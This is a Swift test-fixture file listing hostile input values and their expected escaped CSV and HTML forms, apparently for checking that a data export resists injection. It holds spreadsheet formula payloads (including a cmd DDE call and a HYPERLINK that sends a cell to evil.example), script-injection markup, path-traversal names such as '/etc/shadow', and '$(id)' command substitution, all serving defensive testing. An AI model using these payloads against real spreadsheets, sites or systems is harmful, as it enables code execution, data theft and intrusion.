/// One value that somebody wrote to hurt who reads it, and what becomes of it.
struct Attack: Sendable {
    let name: String
    /// As it stands in the row.
    let json: String
    /// The cell as a reader of CSV has it.
    let csv: String
    /// The cell's HTML.
    let html: String

    init(_ name: String, _ json: String, csv: String, html: String? = nil) {
        self.name = name
        self.json = json
        self.csv = csv
        self.html = html ?? csv
    }

    var line: String { "{\"value\":\(json),\"after\":\"ok\"}" }

    static let all: [Attack] = formulas + separators + markup + invisible + brokenText + numbers + shapes

    static let formulas = [
        Attack("equals sign", #""=1+1""#, csv: "'=1+1", html: "=1+1"),
        Attack(
            "plus sign",
            #""+1+cmd|' /C calc'!A0""#,
            csv: "'+1+cmd|' /C calc'!A0",
            html: "+1+cmd|&#39; /C calc&#39;!A0"
        ),
        Attack(
            "minus sign",
            #""-2+3+cmd|' /C calc'!A0""#,
            csv: "'-2+3+cmd|' /C calc'!A0",
            html: "-2+3+cmd|&#39; /C calc&#39;!A0"
        ),
        Attack("at sign", #""@SUM(1+1)""#, csv: "'@SUM(1+1)", html: "@SUM(1+1)"),
        Attack("tab", #""\t=1+1""#, csv: "'\t'=1+1", html: "\t=1+1"),
        Attack("carriage return", #""\r=1+1""#, csv: "'\r'=1+1", html: "\n=1+1"),
        Attack("line feed", #""\n=1+1""#, csv: "\n'=1+1", html: "\n=1+1"),
        Attack("NUL", #""\u0000=1+1""#, csv: "\u{FFFD}'=1+1", html: "\u{2400}=1+1"),
        Attack("escaped equals sign", #""\u003d1+1""#, csv: "'=1+1", html: "=1+1"),
        Attack("full-width equals sign", #""＝1+1""#, csv: "'＝1+1", html: "＝1+1"),
        Attack("full-width plus sign", #""＋1""#, csv: "'＋1", html: "＋1"),
        Attack("full-width minus sign", #""－1""#, csv: "'－1", html: "－1"),
        Attack("full-width at sign", #""＠A1""#, csv: "'＠A1", html: "＠A1"),
        Attack("small equals sign", #""﹦1""#, csv: "'﹦1", html: "﹦1"),
        Attack("mathematical minus sign", #""−1+1""#, csv: "'−1+1", html: "−1+1"),
        Attack("behind spaces", #""   =1+1""#, csv: "   '=1+1", html: "   =1+1"),
        Attack("behind a no-break space", #""\u00a0=1+1""#, csv: "\u{A0}'=1+1", html: "\u{A0}=1+1"),
        Attack("behind a byte-order mark", #""\ufeff=1+1""#, csv: "\u{FEFF}'=1+1", html: "[U+FEFF]=1+1"),
        Attack("behind a zero-width space", #""\u200b=1+1""#, csv: "\u{200B}'=1+1", html: "[U+200B]=1+1"),
        Attack("behind a quotation mark", #""\"=1+1""#, csv: "\"'=1+1", html: "&quot;=1+1"),
        Attack("behind an apostrophe", #""'=1+1""#, csv: "''=1+1", html: "&#39;=1+1"),
        Attack(
            "a link that sends the cell away",
            #""=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")""#,
            csv: "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            html: "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)"
        ),
        Attack("a telephone number", #""+49 30 1234""#, csv: "'+49 30 1234", html: "+49 30 1234"),
    ]

    static let separators = [
        Attack("a semicolon where it separates", #""x;=1+1""#, csv: "x;'=1+1", html: "x;=1+1"),
        Attack("a semicolon and spaces", #""x; \"=1+1""#, csv: "x; \"'=1+1", html: "x; &quot;=1+1"),
        Attack("a tab where it separates", #""x\t@A1""#, csv: "x\t'@A1", html: "x\t@A1"),
        Attack("line ends in a cell", #""x\r\n=1+1\r\ny""#, csv: "x\r\n'=1+1\r\ny", html: "x\n=1+1\ny"),
        Attack(
            "quotation marks and commas",
            #""\",\"=1+1\",\"""#,
            csv: "\",\"=1+1\",\"",
            html: "&quot;,&quot;=1+1&quot;,&quot;"
        ),
        Attack("a whole row", #""\"\r\nid,=1+1,\"""#, csv: "\"'\r\nid,=1+1,\"", html: "&quot;\nid,=1+1,&quot;"),
    ]

    static let markup = [
        Attack(
            "a script",
            #""<script>alert(1)</script>""#,
            csv: "<script>alert(1)</script>",
            html: "&lt;script&gt;alert(1)&lt;/script&gt;"
        ),
        Attack(
            "the end of the cell",
            #""</td></table><img src=x onerror=alert(1)>""#,
            csv: "</td></table><img src=x onerror=alert(1)>",
            html: "&lt;/td&gt;&lt;/table&gt;&lt;img src=x onerror=alert(1)&gt;"
        ),
        Attack(
            "the end of an attribute",
            #""\" onmouseover=\"alert(1)""#,
            csv: "\" onmouseover=\"alert(1)",
            html: "&quot; onmouseover=&quot;alert(1)"
        ),
        Attack(
            "an apostrophe in an attribute",
            #""' autofocus onfocus='alert(1)""#,
            csv: "' autofocus onfocus='alert(1)",
            html: "&#39; autofocus onfocus=&#39;alert(1)"
        ),
        Attack(
            "escaped angle brackets",
            #""\u003csvg\/onload=alert(1)\u003e""#,
            csv: "<svg/onload=alert(1)>",
            html: "&lt;svg/onload=alert(1)&gt;"
        ),
        Attack("a reference", #""&lt;b&gt;""#, csv: "&lt;b&gt;", html: "&amp;lt;b&amp;gt;"),
        Attack("a comment", #""<!--""#, csv: "<!--", html: "&lt;!--"),
        Attack("a scheme", #""javascript:alert(1)""#, csv: "javascript:alert(1)"),
    ]

    static let invisible = [
        Attack("a directional override", #""gpj.\u202eexe""#, csv: "gpj.\u{FFFD}exe", html: "gpj.[U+202E]exe"),
        Attack("an isolate", #""a\u2066b\u2069""#, csv: "a\u{FFFD}b\u{FFFD}", html: "a[U+2066]b[U+2069]"),
        Attack("an override as bytes", "\"a\u{202E}b\"", csv: "a\u{FFFD}b", html: "a[U+202E]b"),
        Attack("an escape sequence", #""\u001b]0;x\u0007""#, csv: "\u{FFFD}]0;x\u{FFFD}", html: "\u{241B}]0;x\u{2407}"),
        Attack(
            "a control character of the second row",
            #""a\u0085b\u009bc""#,
            csv: "a\u{FFFD}b\u{FFFD}c",
            html: "a[U+0085]b[U+009B]c"
        ),
        Attack("delete", #""a\u007fb""#, csv: "a\u{FFFD}b", html: "a\u{2421}b"),
        Attack("a line separator", #""a\u2028b""#, csv: "a\u{2028}b", html: "a[U+2028]b"),
        Attack("letters out of tags", #""a\udb40\udc41b""#, csv: "a\u{E0041}b", html: "a[U+E0041]b"),
        Attack("a bell in the raw", "\"a\u{07}b\"", csv: "a\u{FFFD}b", html: "a\u{2407}b"),
    ]

    static let brokenText = [
        Attack("half of a pair", #""a\ud800b""#, csv: "a\u{FFFD}b"),
        Attack("the other half", #""a\udc00b""#, csv: "a\u{FFFD}b"),
        Attack("halves in the wrong order", #""\udc00\ud800""#, csv: "\u{FFFD}\u{FFFD}"),
        Attack("half of a pair and an equals sign", #""\ud800=1""#, csv: "\u{FFFD}'=1", html: "\u{FFFD}=1"),
        Attack("a whole pair", #""\ud83d\ude00""#, csv: "😀"),
        Attack("an escape that is none", #""a\u12g4""#, csv: "a\u{FFFD}12g4"),
    ]

    static let numbers = [
        Attack("a negative number", "-12.5", csv: "-12.5"),
        Attack("a negative number in a string", #""-12.50""#, csv: "-12.50"),
        Attack("nearly a number", #""-12.5.1""#, csv: "'-12.5.1", html: "-12.5.1"),
        Attack("beyond a double", "1e400", csv: "1e400"),
        Attack("a huge integer", "-123456789012345678901234567890", csv: "-123456789012345678901234567890"),
        Attack(
            "more digits than a cell takes",
            String(repeating: "9", count: 33_000),
            csv: String(repeating: "9", count: 32_000) + "\u{2026}",
            html: String(repeating: "9", count: 500) + "\u{2026}"
        ),
    ]

    static let shapes = [
        Attack("nothing", "null", csv: ""),
        Attack("an empty text", #""""#, csv: ""),
        Attack("a boolean", "true", csv: "true"),
        Attack(
            "an object",
            #"{"a": {"=1": [1, "x y", null]}, "b": "</td>"}"#,
            csv: #"{"a":{"=1":[1,"x y",null]},"b":"</td>"}"#,
            html:
                "{&quot;a&quot;: {&quot;=1&quot;: [1, &quot;x y&quot;, null]}, &quot;b&quot;: &quot;&lt;/td&gt;&quot;}"
        ),
        Attack(
            "a list with a semicolon",
            #"[";=1", "\""]"#,
            csv: #"[";'=1","\""]"#,
            html: "[&quot;;=1&quot;, &quot;\\&quot;&quot;]"
        ),
        Attack("the same member twice", #"1,"value":"=2""#, csv: "'=2", html: "=2"),
        Attack("a member by another spelling", #"1,"\u0076alue":3"#, csv: "3"),
        Attack("a member of every object", #"1,"__proto__":{"toString":1},"constructor":null"#, csv: "1"),
        Attack(
            "a hundred thousand brackets",
            String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000),
            csv: String(repeating: "[", count: 32_000) + "\u{2026}",
            html: String(repeating: "[", count: 500) + "\u{2026}"
        ),
    ]
}

/// Names that people, systems and files were given to break the papers around them.
enum HostileName {
    static let all = [
        "../../etc/passwd", "C:\\Windows\\win.ini", "/etc/shadow", "CON", "nul.txt", "aux", "COM1", "a/../../b",
        "name\u{0}.pdf", "x\r\nPayload-Oxum: 0.0", "\u{202E}fdp.exe", "<img src=x onerror=alert(1)>", "\" onload=\"x",
        "' onfocus='x", "=cmd|' /C calc'!A0", "data/json/0001-rows.jsonl", "Straße.PDF", "STRASSE.pdf", "strasse.pdf",
        ".", "..", "", " ", "~", "-rf", "a\u{301}\u{301}\u{301}", "{client}", "%2e%2e%2f", "&lt;script&gt;",
        "javascript:alert(1)",
        String(repeating: "n", count: 5_000), "a\u{FEFF}b", "😀", "`id`", "$(id)", "]]>",
        "</script><script>alert(1)</script>",
    ]
}
